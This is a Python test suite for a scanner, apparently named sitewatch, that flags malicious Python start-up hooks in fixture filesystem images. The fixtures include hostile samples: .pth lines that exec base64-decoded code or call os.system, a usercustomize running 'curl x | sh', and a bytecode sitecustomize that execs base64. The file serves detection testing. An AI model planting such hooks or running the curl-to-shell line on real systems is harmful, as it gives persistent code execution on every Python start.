#!/usr/bin/env python3
"""End-to-end tests of `sitewatch scan` on fixture trees it never executes.

A fixture image is built under a temporary folder and scanned with --root:
interpreters found from files alone (dpkg status, pyvenv.cfg), symlinks that
must stay inside the root (an absolute link like Debian's sitecustomize.py),
hostile entries (a FIFO, a symlink loop, an oversize file), start-up
environment files, verdicts, the allowlist, the baseline and the table.
Last, a scan of this machine's own interpreters must finish without error.

Usage: test_scan_cli.py SITEWATCH
"""
import base64
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import warnings
import zipfile

FAILURES = []


PASSED = []


def check(cond, what):
    if cond:
        PASSED.append(what)
        print("ok   " + what)
    else:
        print("FAIL " + what)
        FAILURES.append(what)


def write(path, data, mode=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    if mode is not None:
        os.chmod(path, mode)


def record_hash(data):
    """A wheel RECORD hash field: sha256= and the URL-safe base64 digest without padding."""
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return "sha256=" + digest


def write_record(site, dist_info, files):
    """Writes SITE/DIST_INFO/RECORD for the files (paths relative to SITE) as they are now."""
    lines = []
    for rel in files:
        with open(os.path.join(site, rel), "rb") as f:
            data = f.read()
        lines.append("%s,%s,%d" % (rel, record_hash(data), len(data)))
    write(os.path.join(site, dist_info, "RECORD"), "\n".join(lines) + "\n")


DEBIAN_SITECUSTOMIZE = (b"# install the apport exception handler if available\ntry:\n    import apport_python_hook\n"
                        b"except ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n")

PYTEST_COV_PTH = (
    "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n"
    "  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n"
    "  sys.stderr.write(\\n   \"pytest-cov: Failed to setup subprocess coverage. \"\\n"
    "   \"Environ: {0!r} \"\\n   \"Exception: {1!r}\\\\n\".format(\\n"
    "    dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\')),\\n"
    "    exc\\n   )\\n  )\\n')\n")


SITE_PY = """# a stand-in for Debian's site.py: only what scan reads from it
def addpackage(sitedir, name, known_paths):
    f = io.TextIOWrapper(io.open_code(fullname), encoding="locale")
def getsitepackages(prefixes=None):
    sitepackages.append(os.path.join(prefix, "local/lib", "python3.11", "dist-packages"))
"""


def pyc_bytes(source, mtime, size):
    """A 3.11 .pyc (magic 3495, PEP 552 flags 0) of `source`: compiled, never run."""
    import marshal
    import struct
    code = marshal.dumps(compile(source, "<fixture>", "exec"))
    return struct.pack("<HHIII", 3495, 0x0a0d, 0, mtime & 0xffffffff, size & 0xffffffff) + code


def cached_pyc(source_path):
    """The __pycache__ file a first import writes: its header holds the source's mtime and size."""
    st = os.stat(source_path)
    with open(source_path, "rb") as f:
        data = pyc_bytes(f.read(), int(st.st_mtime), st.st_size)
    folder = os.path.join(os.path.dirname(source_path), "__pycache__")
    name = os.path.basename(source_path)[:-3] + ".cpython-311.pyc"
    write(os.path.join(folder, name), data)


def build_image(root):
    dist = os.path.join(root, "usr/lib/python3/dist-packages")
    write(os.path.join(root, "etc/passwd"),
          "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    write(os.path.join(root, "usr/bin/python3.11"), b"")
    write(os.path.join(root, "usr/lib/python3.11/site.py"), SITE_PY)
    write(os.path.join(root, "usr/lib/python3.11/os.py"), "")
    os.symlink("python3.11", os.path.join(root, "usr/bin/python3"))
    # The conffile record contains the MD5 of Debian's own sitecustomize; the image's file differs.
    write(os.path.join(root, "var/lib/dpkg/status"),
          "Package: python3.11-minimal\nStatus: install ok installed\nVersion: 3.11.4-1\n"
          "Conffiles:\n /etc/python3.11/sitecustomize.py %s\n\n" % hashlib.md5(DEBIAN_SITECUSTOMIZE).hexdigest())
    # Debian's absolute link: it must resolve inside the root, never to the host's /etc.
    write(os.path.join(root, "etc/python3.11/sitecustomize.py"), "import os  # the image's own\n")
    os.symlink("/etc/python3.11/sitecustomize.py", os.path.join(root, "usr/lib/python3.11/sitecustomize.py"))

    stage = base64.b64encode(b"print('stage two')").decode()
    write(os.path.join(dist, "evil.pth"), "import base64; exec(base64.b64decode('%s'))\n" % stage)
    write(os.path.join(dist, "distutils-precedence.pth"),
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
          "'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
    write(os.path.join(dist, "_distutils_hack/__init__.py"), "import os\n")
    write_record(dist, "setuptools-68.0.0.dist-info", ["_distutils_hack/__init__.py"])
    write(os.path.join(dist, "pytest-cov.pth"), PYTEST_COV_PTH)
    write(os.path.join(dist, "appended.pth"),
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
          "'local'; enabled and __import__('_distutils_hack').add_shim(); ; os.system('id')\n")
    write(os.path.join(dist, ".hidden.pth"), "import os; os.system('id')\n")
    # Import lines that must not hide the next line, and one that certainly raises.
    write(os.path.join(dist, "0stop.pth"), "import sitewatch_absent_x\nimport os; os.system('never')\n/opt/tools\n")
    write(os.path.join(dist, "hide.pth"), "import builtins\nimport _frozen_importlib\nimport __main__\n"
          "import os; os.system('hidden')\n")
    write(os.path.join(dist, "hook.pth"), "import sys; sys.modules['made_up'] = sys\n"
          "import made_up\nimport os; os.system('after hook')\n")
    write(os.path.join(dist, "dormant.pth"), "  import os; os.system('id')\n")
    write(os.path.join(dist, "big.pth"), "import os\n" + "#" * 300000 + "\nimport os; os.system('padded')\n")
    os.symlink("loop2.pth", os.path.join(dist, "loop1.pth"))
    os.symlink("loop1.pth", os.path.join(dist, "loop2.pth"))
    os.symlink("../../../../../../../../etc/passwd", os.path.join(dist, "escape.pth"))
    os.mkfifo(os.path.join(dist, "fifo.pth"))

    home = os.path.join(root, "home/alice")
    write(os.path.join(home, ".local/lib/python3.11/site-packages/usercustomize.py"),
          "import os\nos.system('curl x | sh')\n")
    cached_pyc(os.path.join(home, ".local/lib/python3.11/site-packages/usercustomize.py"))
    sourceless = os.path.join(root, "usr/local/lib/python3.11/dist-packages/sitecustomize.pyc")
    write(sourceless, pyc_bytes(b"import base64, os\nexec(base64.b64decode('aWQ='))\n", 0, 0))
    write(os.path.join(home, ".bashrc"), "export PYTHONSTARTUP=~/.pythonrc.py\n")
    write(os.path.join(home, ".pythonrc.py"), "import socket, subprocess\n")
    write(os.path.join(root, "etc/environment"), 'PYTHONPATH=":/opt/tools"\n')
    write(os.path.join(root, "opt/tools/sitecustomize.py"), "import os; os.popen('x')\n")
    write(os.path.join(root, "etc/systemd/system/app.service"),
          "[Service]\nEnvironment=\"PYTHONUSERBASE=/srv/ub\"\nExecStart=/usr/bin/python3.11 app.py\n")
    write(os.path.join(root, "srv/ub/lib/python3.11/site-packages/ub.pth"), "import os; os.system('y')\n")

    venv = os.path.join(root, "tmp/rt-venv")
    write(os.path.join(venv, "pyvenv.cfg"), "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.4\n")
    write(os.path.join(venv, "bin/python"), b"")
    write(os.path.join(venv, "lib/python3.11/site-packages/redteam.pth"), "import os; os.system('calc')\n")
    # setuptools' line with no package record for its module: not cleared.
    write(os.path.join(venv, "lib/python3.11/site-packages/distutils-precedence.pth"),
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
          "'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
    write(os.path.join(venv, "lib/python3.11/site-packages/_distutils_hack/__init__.py"), "import os\n")
    # systemd's quoting: each quoted word is one assignment, quotes removed.
    write(os.path.join(root, "etc/systemd/system/quoted.service"),
          "[Service]\nEnvironment=\"PYTHONPATH=/opt/quoted dir\" 'PYTHONHOME=/opt/home' OTHER=PYTHONPATH\n")
    return dist


def scan(sitewatch, *args, timeout=120):
    proc = subprocess.run([sitewatch, "scan"] + list(args), capture_output=True, text=True,
                          timeout=timeout)
    return proc


def findings_of(proc):
    return [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]


def find(findings, path, kind=None):
    return [f for f in findings if f["path"] == path and (kind is None or f["kind"] == kind)]


def image_checks(sitewatch, root, dist):
    proc = scan(sitewatch, "--root", root, "--format", "ndjson", "--max-file-size", "200000")
    check(proc.returncode == 1, "--root scan exits 1 with high findings (got %d: %s)" % (proc.returncode, proc.stderr))
    fs = findings_of(proc)
    d = "/usr/lib/python3/dist-packages/"

    evil = find(fs, d + "evil.pth", "pth")
    check(evil and evil[0]["verdict"] == "critical" and evil[0]["line"] == 1 and evil[0]["offset"] == 0,
          "exec of base64 is critical, at line 1 offset 0")
    check(evil and evil[0]["interpreters"] == [{"path": "/usr/bin/python3.11", "version": "3.11.4"}],
          "the version comes from dpkg's status file without running anything")
    benign = find(fs, d + "distutils-precedence.pth", "pth")
    check(benign and benign[0]["verdict"] == "benign", "setuptools' line is benign")
    appended = find(fs, d + "appended.pth", "pth")
    check(appended and appended[0]["verdict"] == "high", "the template with a statement appended is not benign")
    hidden = find(fs, d + ".hidden.pth", "pth")
    check(hidden and hidden[0]["verdict"] == "critical" and hidden[0]["interpreters"],
          "a hidden .pth runs on a site.py without the hidden-name check, and is critical")
    stop = [f for f in find(fs, d + "0stop.pth") if f["line"] == 2]
    check(stop and not stop[0]["interpreters"], "a line after an import of a module that exists nowhere does not run")
    hide = [f for f in find(fs, d + "hide.pth") if f["line"] == 4]
    check(hide and hide[0]["interpreters"], "builtins, _frozen_importlib and __main__ import: the next line runs")
    hook = [f for f in find(fs, d + "hook.pth") if f["line"] == 3]
    check(hook and hook[0]["interpreters"], "after a line that fills sys.modules, an unknown import is not predicted to raise")
    dormant = find(fs, d + "dormant.pth", "pth")
    check(dormant and not dormant[0]["interpreters"] and "3.15" in dormant[0]["reason"],
          "leading whitespace is reported as dormant until 3.15")
    big = find(fs, d + "big.pth")
    check(big and "larger than --max-file-size" in big[0]["reason"], "an oversize .pth is a finding")
    check(big and big[0]["verdict"] in ("high", "critical") and "os.system" in big[0]["reason"],
          "an oversize .pth is at least high and its last part is analysed (got %s)" % big)
    loop = find(fs, d + "loop1.pth")
    check(loop and "symlink loop" in loop[0]["reason"] and loop[0]["verdict"] == "info" and
          not loop[0]["interpreters"], "a symlink loop is reported as skipped by site (got %s)" % loop)
    fifo = find(fs, d + "fifo.pth")
    check(fifo and "FIFO" in fifo[0]["reason"], "a FIFO named .pth is reported, without blocking")
    escape = find(fs, d + "escape.pth")
    check(any("alice" in f.get("text", "") for f in escape),
          "a relative link climbing out of the root stays in the root (it reads the image's passwd)")

    site = find(fs, "/usr/lib/python3.11/sitecustomize.py", "sitecustomize")
    own = hashlib.sha256(b"import os  # the image's own\n").hexdigest()
    check(site and site[0].get("sha256") == own and "/etc/python3.11/sitecustomize.py" in site[0]["reason"],
          "Debian's absolute sitecustomize link resolves inside the root")
    user = find(fs, "/home/alice/.local/lib/python3.11/site-packages/usercustomize.py", "usercustomize")
    check(user and user[0]["verdict"] == "high" and user[0]["interpreters"],
          "a usercustomize in a user site from /etc/passwd runs and is high")
    check(user and "cached bytecode" in user[0]["reason"] and
          not any(f["path"].endswith("usercustomize.cpython-311.pyc") for f in fs),
          "a source's matching __pycache__ file is evidence of the source's finding, not its own")
    pyc = find(fs, "/usr/local/lib/python3.11/dist-packages/sitecustomize.pyc", "sitecustomize")
    # Debian's own sitecustomize shadows it: critical, one level lower.
    check(pyc and pyc[0]["verdict"] == "high" and "exec()" in pyc[0]["reason"] and
          "b64decode" in pyc[0]["reason"] and "os.exec" not in pyc[0]["reason"],
          "a sourceless .pyc is judged on its names (exec with base64)")
    startup = [f for f in fs if f["path"] == "/home/alice/.bashrc" and f["kind"] == "startup-env"]
    check(startup and startup[0]["verdict"] == "critical" and startup[0]["line"] == 1,
          "PYTHONSTARTUP's script is judged (socket with subprocess: critical)")
    empty = find(fs, "/etc/environment", "pythonpath-empty")
    check(empty and empty[0]["verdict"] == "medium", "an empty PYTHONPATH element is its own finding")
    tools = find(fs, "/opt/tools/sitecustomize.py", "sitecustomize")
    check(tools and "PYTHONPATH" in tools[0]["reason"], "a sitecustomize in a PYTHONPATH folder is reported")
    ub = find(fs, "/srv/ub/lib/python3.11/site-packages/ub.pth", "pth")
    check(ub and ub[0]["interpreters"], "PYTHONUSERBASE from a systemd unit adds a user site")
    rt = find(fs, "/tmp/rt-venv/lib/python3.11/site-packages/redteam.pth", "pth")
    check(rt and rt[0]["verdict"] == "critical" and rt[0]["interpreters"][0]["path"] == "/tmp/rt-venv/bin/python",
          "a venv under /tmp is found by its pyvenv.cfg and its os.system hook is critical")
    check(not any(f["path"].startswith(root) for f in fs), "paths are reported as seen inside the root")

    cov = find(fs, d + "pytest-cov.pth", "pth")
    check(cov and cov[0]["verdict"] == "benign" and "pytest-cov" in cov[0]["reason"],
          "pytest-cov's .pth (an exec of a constant string) is a catalogued benign hook (got %s)" % cov)
    unvouched = find(fs, "/tmp/rt-venv/lib/python3.11/site-packages/distutils-precedence.pth", "pth")
    check(unvouched and unvouched[0]["verdict"] != "benign" and "no package record" in unvouched[0]["reason"],
          "setuptools' line is not cleared without a package record for _distutils_hack (got %s)" % unvouched)
    check(site and "Conffiles record" in site[0].get("evidence", "") and "differs" in site[0]["evidence"] and
          site[0]["verdict"] in ("medium", "high", "critical"),
          "a conffile that differs from dpkg's Conffiles MD5 is evidence, and at least medium (got %s)" % site)
    quoted = [f for f in fs if f["path"] == "/etc/systemd/system/quoted.service" and f["kind"] == "startup-env"]
    reasons = " ".join(f["reason"] for f in quoted)
    check(len(quoted) == 1 and "PYTHONPATH puts /opt/quoted dir ahead" in reasons and "to /opt/home" in reasons,
          "systemd Environment= words are split and unquoted as systemd does (got %s)" % quoted)
    blocked = [f for f in find(fs, d + "0stop.pth") if f["line"] == 3]
    check(blocked and not blocked[0]["interpreters"] and "would add /opt/tools" in blocked[0]["reason"],
          "a path line behind a line that breaks its file says what it would add (got %s)" % blocked)
    return fs


def explicit_paths(sitewatch, root):
    proc = scan(sitewatch, "--root", root, "--format", "json", "--no-env", "/usr/bin/python3")
    doc = json.loads(proc.stdout)
    check([i["path"] for i in doc["interpreters"]] == ["/usr/bin/python3"],
          "an explicit symlink to the interpreter is followed (got %s)" % doc["interpreters"])
    proc = subprocess.run([sitewatch, "scan", "--format", "json", "--no-env", "--no-proc", "rt-venv"],
                          capture_output=True, text=True, cwd=os.path.join(root, "tmp"), timeout=120)
    doc = json.loads(proc.stdout)
    check([i["path"] for i in doc["interpreters"]] == [os.path.join(root, "tmp/rt-venv/bin/python")],
          "a relative path is taken from the working folder (got %s)" % doc["interpreters"])


def allow_and_baseline(sitewatch, root, dist, tmp):
    evil = open(os.path.join(dist, "evil.pth"), "rb").read()
    allow = os.path.join(tmp, "allow.txt")
    write(allow, "# our own hook\n%s /usr/lib/python3/*\n" % hashlib.sha256(evil).hexdigest())
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--allow", allow))
    e = find(fs, "/usr/lib/python3/dist-packages/evil.pth", "pth")
    check(e and e[0]["verdict"] == "benign" and "allow.txt:2" in e[0]["reason"], "the allowlist clears a hook by hash")

    base = os.path.join(tmp, "baseline.json")
    proc = scan(sitewatch, "--root", root, "--format", "json")
    write(base, proc.stdout)
    doc = json.loads(proc.stdout)
    check(doc["findings"] and doc["interpreters"], "--format json is one document with interpreters and findings")
    proc = scan(sitewatch, "--root", root, "--format", "ndjson", "--baseline", base)
    check(proc.returncode == 0 and not findings_of(proc), "nothing is new against its own baseline")
    write(os.path.join(dist, "evil.pth"), "import os; os.system('changed')\n")
    write(os.path.join(dist, "new.pth"), "import os; os.system('new')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--baseline", base))
    paths = sorted(f["path"] for f in fs)
    check(paths == ["/usr/lib/python3/dist-packages/evil.pth", "/usr/lib/python3/dist-packages/new.pth"],
          "the baseline keeps only the changed and the new hook (got %s)" % paths)
    check(any(f.get("changed") for f in fs), "a changed hook is marked as changed")


def usage_and_table(sitewatch, root):
    proc = scan(sitewatch, "--root", root, "--format", "table", "--fail-on", "critical")
    check(proc.returncode == 1 and proc.stdout.startswith("VERDICT"), "the table has a header; --fail-on critical")
    # A name that would erase its own row on a terminal, and one that is not UTF-8.
    dist = os.path.join(root, "usr/lib/python3/dist-packages").encode()
    names = [dist + b"/esc\x1b[2K\r.pth", dist + b"/latin\xe9.pth"]
    for name in names:
        write(name, "import os; os.system('id')  # \x1b[8m\n")
    proc = subprocess.run([sitewatch, "scan", "--root", root, "--format", "table"], capture_output=True,
                          timeout=120)
    out = proc.stdout
    check(b"\x1b" not in out and b"\r" not in out and b"\xe9" not in out,
          "the table holds no control character and no byte that is not UTF-8")
    check(b"esc\\x1b[2K\\x0d.pth:1" in out and b"latin\\xe9.pth:1" in out,
          "the table shows control and non-UTF-8 bytes of a name as \\xNN")
    for name in names:
        os.unlink(name)
    proc = scan(sitewatch, "--root", root, "--fail-on", "nonsense")
    check(proc.returncode == 2 and "--fail-on" in proc.stderr, "a bad --fail-on is a usage error")
    proc = scan(sitewatch, "--root", os.path.join(root, "absent"))
    check(proc.returncode == 2, "an absent --root is fatal")


def as_unprivileged(cmd):
    """cmd run as nobody when this test runs as root (root reads every folder), else as is."""
    if os.geteuid() != 0:
        return cmd
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return None
    return [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"] + cmd


def silent_truncation(sitewatch, tmp):
    """Folders that scan cannot see into are findings, never silently dropped."""
    root = os.path.join(tmp, "truncated")
    write(os.path.join(root, "etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n")
    deep = os.path.join(root, "srv/a/b/c/d/e/f/g/h/i/venv")
    write(os.path.join(deep, "pyvenv.cfg"), "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.4\n")
    write(os.path.join(deep, "bin/python"), b"")
    write(os.path.join(deep, "lib/python3.11/site-packages/deep.pth"), "import os; os.system('deep')\n")
    proc = scan(sitewatch, "--root", root, "--format", "json", "--no-env")
    doc = json.loads(proc.stdout)
    capped = find(doc["findings"], "/srv/a/b/c/d/e/f/g/h", "error")
    check(capped and capped[0]["verdict"] == "info" and "--max-depth" in capped[0]["reason"],
          "a folder where --max-depth stops the search is reported with the option (got %s)" % capped)
    check(doc["stats"]["errors"] >= 1, "the depth cap is counted in the summary's errors")
    doc = json.loads(scan(sitewatch, "--root", root, "--format", "json", "--no-env", "--max-depth", "12").stdout)
    check(find(doc["findings"], "/srv/a/b/c/d/e/f/g/h/i/venv/lib/python3.11/site-packages/deep.pth", "pth"),
          "a higher --max-depth finds the deep venv")

    write(os.path.join(root, "usr/bin/python3.11"), b"", 0o755)
    write(os.path.join(root, "usr/lib/python3.11/site.py"), SITE_PY)
    dist = os.path.join(root, "usr/lib/python3/dist-packages")
    write(os.path.join(dist, "secret.pth"), "import os; os.system('id')\n")
    os.chmod(dist, 0o700)
    for folder in (tmp, root):
        os.chmod(folder, 0o755)
    cmd = as_unprivileged([sitewatch, "scan", "--root", root, "--format", "json", "--no-env"])
    if cmd is None:
        print("skip an unreadable site folder: running as root without setpriv")
        return
    doc = json.loads(subprocess.run(cmd, capture_output=True, text=True, timeout=120).stdout)
    denied = find(doc["findings"], "/usr/lib/python3/dist-packages", "error")
    check(denied and "cannot be listed" in denied[0]["reason"] and doc["stats"]["errors"] >= 1,
          "an unreadable site folder is an error finding, counted in the summary (got %s)" % denied)


def blocked_customize(sitewatch, tmp):
    """A customize module behind a start-breaking .pth is listed, marked and rated as if it ran."""
    for case, pth in (("exit", "import sys; sys.exit(0)\n"), ("badutf8", b"import os\n\xff\n")):
        root = os.path.join(tmp, "blocked-" + case)
        site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
        write(os.path.join(root, "etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n")
        write(os.path.join(root, "opt/v/pyvenv.cfg"),
              "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.4\n")
        write(os.path.join(root, "opt/v/bin/python"), b"")
        write(os.path.join(site, "aaa.pth"), pth)
        write(os.path.join(site, "sitecustomize.py"), "import os; os.system('x')\n")
        fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
        custom = find(fs, "/opt/v/lib/python3.11/site-packages/sitecustomize.py", "sitecustomize")
        check(custom and custom[0]["verdict"] == "high" and not custom[0]["interpreters"] and
              "would run once the breaking hook /opt/v/lib/python3.11/site-packages/aaa.pth is removed"
              in custom[0]["reason"],
              "a sitecustomize behind a %s .pth is listed as blocked and rated as if it ran (got %s)"
              % (case, custom))


def followed_imports(sitewatch, root, dist):
    """The module an executed import line names is judged with the line."""
    write(os.path.join(dist, "helper.pth"), "import sitewatch_helper\n")
    write(os.path.join(dist, "sitewatch_helper.py"), "import os; os.system('payload')\n")
    write(os.path.join(dist, "_distutils_hack/__init__.py"), "import sys\n")
    write_record(dist, "setuptools-68.0.0.dist-info", ["_distutils_hack/__init__.py"])
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    d = "/usr/lib/python3/dist-packages/"
    helper = find(fs, d + "helper.pth", "pth")
    check(helper and helper[0]["verdict"] == "high" and
          "imports sitewatch_helper from %ssitewatch_helper.py: starts processes" % d in helper[0]["reason"],
          "a .pth importing a payload module lists the module and its reasons (got %s)" % helper)
    benign = find(fs, d + "distutils-precedence.pth", "pth")
    check(benign and benign[0]["verdict"] == "benign", "setuptools' line with its own module is benign")
    # Debian reads /usr/local/lib/python3.11/dist-packages before /usr/lib/python3/dist-packages.
    write(os.path.join(root, "usr/local/lib/python3.11/dist-packages/_distutils_hack.py"),
          "import os; os.system('shadow')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    shadowed = find(fs, d + "distutils-precedence.pth", "pth")
    check(shadowed and shadowed[0]["verdict"] == "high" and "shadows setuptools'" in shadowed[0]["reason"],
          "a _distutils_hack.py in an earlier site folder makes setuptools' line not benign (got %s)" % shadowed)


def small_venv(root, version="3.11.4"):
    """A root with one venv at /opt/v (no system site packages); returns its site folder."""
    site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
    write(os.path.join(root, "etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n")
    write(os.path.join(root, "opt/v/pyvenv.cfg"),
          "home = /usr/bin\ninclude-system-site-packages = false\nversion = %s\n" % version)
    write(os.path.join(root, "opt/v/bin/python"), b"")
    os.makedirs(site, exist_ok=True)
    return site


def hostile_tree(sitewatch, tmp):
    """A NUL byte, a FIFO, a symlink loop and a character device where hooks are expected."""
    root = os.path.join(tmp, "hostile")
    site = small_venv(root)
    write(os.path.join(site, "a-nul.pth"), b"import os\x00; os.system('x')\nimport os; os.system('after')\n")
    write(os.path.join(site, "b-nulpath.pth"), b"/opt/x\x00y\n")
    os.mkfifo(os.path.join(site, "c-fifo.pth"))
    os.symlink("d-loop.pth", os.path.join(site, "d-loop.pth"))
    os.mkfifo(os.path.join(site, "sitecustomize.py"))
    try:
        os.mknod(os.path.join(site, "e-dev.pth"), 0o600 | stat.S_IFCHR, os.makedev(1, 5))
        device = True
    except OSError as e:
        print("skip a character device named .pth: mknod refused (%s)" % e)
        device = False

    proc = scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env", timeout=60)
    fs = findings_of(proc)
    d = "/opt/v/lib/python3.11/site-packages/"

    nul = [f for f in find(fs, d + "a-nul.pth") if f["line"] == 1]
    after = [f for f in find(fs, d + "a-nul.pth") if f["line"] == 2]
    check(nul and "NUL byte" in nul[0]["reason"] and "exec() refuses" in nul[0]["reason"] and
          nul[0]["verdict"] in ("medium", "high", "critical"),
          "an import line with a NUL byte is reported: it raises and is at least medium (got %s)" % nul)
    check(after and not after[0]["interpreters"], "the line after a NUL-byte import line does not run")
    nulpath = find(fs, d + "b-nulpath.pth")
    check(nulpath and "NUL byte" in nulpath[0]["reason"] and nulpath[0]["verdict"] == "medium",
          "a path line with a NUL byte is reported (got %s)" % nulpath)

    fifo = find(fs, d + "c-fifo.pth")
    check(fifo and "FIFO" in fifo[0]["reason"] and fifo[0]["verdict"] in ("high", "critical"),
          "a FIFO named .pth is high, without blocking the scan (got %s)" % fifo)
    loop = find(fs, d + "d-loop.pth")
    check(loop and "symlink loop" in loop[0]["reason"] and loop[0]["verdict"] == "info",
          "a symlink loop named .pth is info: site skips it (got %s)" % loop)
    custom = find(fs, d + "sitecustomize.py", "sitecustomize")
    check(custom and "FIFO where a module is expected" in custom[0]["reason"] and
          custom[0]["verdict"] in ("high", "critical"), "a FIFO sitecustomize.py is high (got %s)" % custom)
    if device:
        dev = find(fs, d + "e-dev.pth")
        check(dev and "character device" in dev[0]["reason"] and dev[0]["verdict"] in ("high", "critical"),
              "a character device named .pth is high (got %s)" % dev)


def allow_settings(sitewatch, root, tmp):
    """--allow clears a start-up setting by the digest of its line (allow_sha256)."""
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson"))
    rc = [f for f in fs if f["path"] == "/home/alice/.bashrc" and f["kind"] == "startup-env"]
    empty = find(fs, "/etc/environment", "pythonpath-empty")
    check(rc and rc[0].get("allow_sha256") and empty and empty[0].get("allow_sha256"),
          "settings carry the digest that --allow names (allow_sha256)")
    if not (rc and empty):
        return
    allow = os.path.join(tmp, "allow-env.txt")
    write(allow, "%s /home/*/.bashrc\n%s /etc/environment\n" % (rc[0]["allow_sha256"], empty[0]["allow_sha256"]))
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--allow", allow))
    rc = [f for f in fs if f["path"] == "/home/alice/.bashrc" and f["kind"] == "startup-env"]
    empty = find(fs, "/etc/environment", "pythonpath-empty")
    check(rc and rc[0]["verdict"] == "benign" and empty and empty[0]["verdict"] == "benign",
          "--allow clears a PYTHONSTARTUP setting and an empty PYTHONPATH element (got %s %s)" % (rc, empty))
    # The PYTHONSTARTUP script is part of the digest: a changed script is no longer allowed.
    script = os.path.join(root, "home/alice/.pythonrc.py")
    saved = open(script, "rb").read()
    write(script, "import os; os.system('changed')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--allow", allow))
    rc = [f for f in fs if f["path"] == "/home/alice/.bashrc" and f["kind"] == "startup-env"]
    check(rc and rc[0]["verdict"] != "benign", "a changed PYTHONSTARTUP script is not allowed by the old entry")
    write(script, saved)


def max_findings(sitewatch, root):
    """--max-findings keeps the worst findings and reports how many it dropped."""
    full = json.loads(scan(sitewatch, "--root", root, "--format", "json").stdout)
    order = ["benign", "info", "low", "medium", "high", "critical"]
    proc = scan(sitewatch, "--root", root, "--format", "json", "--max-findings", "3")
    doc = json.loads(proc.stdout)
    reported = [f for f in doc["findings"] if f["kind"] != "error" or f["path"] != "/"]
    cap = [f for f in doc["findings"] if f["kind"] == "error" and "--max-findings" in f["reason"]]
    worst = sorted((order.index(f["verdict"]) for f in full["findings"]), reverse=True)[:3]
    check(len(reported) == 3 and sorted((order.index(f["verdict"]) for f in reported), reverse=True) == worst,
          "--max-findings keeps the worst findings (got %s)" % [f["verdict"] for f in reported])
    check(cap and doc["stats"]["findings_dropped"] == len(full["findings"]) - 3 and "--max-findings" in proc.stderr,
          "the --max-findings cap is reported as a finding, in the stats and on stderr")


def baseline_changes(sitewatch, root, dist, tmp):
    """--baseline also reports a verdict that rose, a hook that became active, and removed hooks."""
    base = os.path.join(tmp, "baseline2.json")
    write(base, scan(sitewatch, "--root", root, "--format", "json").stdout)
    os.chmod(os.path.join(dist, "hook.pth"), 0o666)           # same content, writable by all
    write(os.path.join(dist, "sitewatch_absent_x.py"), "")     # 0stop.pth's first line now imports
    os.unlink(os.path.join(dist, "dormant.pth"))
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--baseline", base))
    d = "/usr/lib/python3/dist-packages/"
    rose = [f for f in find(fs, d + "hook.pth", "pth") if f["line"] == 3]
    check(rose and rose[0].get("baseline_verdict") == "high" and rose[0]["verdict"] == "critical" and
          "verdict rose" in rose[0]["reason"], "a verdict that rose without a content change is reported (got %s)" % rose)
    active = [f for f in find(fs, d + "0stop.pth", "pth") if f["line"] == 2]
    check(active and active[0]["interpreters"] and "became active" in active[0]["reason"],
          "a hook that became active without a content change is reported (got %s)" % active)
    removed = find(fs, d + "dormant.pth", "removed")
    check(removed and removed[0]["removed_kind"] == "pth" and removed[0]["verdict"] == "info" and
          "gone since the baseline" in removed[0]["reason"], "a removed hook is a record of kind removed (got %s)" % removed)
    os.chmod(os.path.join(dist, "hook.pth"), 0o644)


def depth_and_table(sitewatch, tmp):
    """Folders cut by --max-depth are one finding; table columns fit their widest cell."""
    root = os.path.join(tmp, "deep")
    for branch in ("x", "y", "z"):
        write(os.path.join(root, "srv/a/b/c", branch, "d/e/f/g/h/file"), "")
    write(os.path.join(root, "etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n")
    write(os.path.join(root, "etc/environment"), "PYTHONPATH=/opt/p:\n")
    small_venv(root)
    doc = json.loads(scan(sitewatch, "--root", root, "--format", "json").stdout)
    capped = [f for f in doc["findings"] if f["kind"] == "error" and "--max-depth" in f["reason"]]
    check(len(capped) == 1 and "3 folders" in capped[0]["reason"],
          "folders cut by --max-depth are one finding with their count (got %s)" % capped)
    out = scan(sitewatch, "--root", root, "--format", "table").stdout.splitlines()
    at = out[0].index("PATH")
    rows = [line for line in out[1:] if line.split(" ")[0] in ("benign", "info", "low", "medium", "high", "critical")]
    check(rows and all(line.index("/") == at for line in rows),
          "every table row starts its path under the PATH header (got %s)" % out[:4])


def faults_root(tmp):
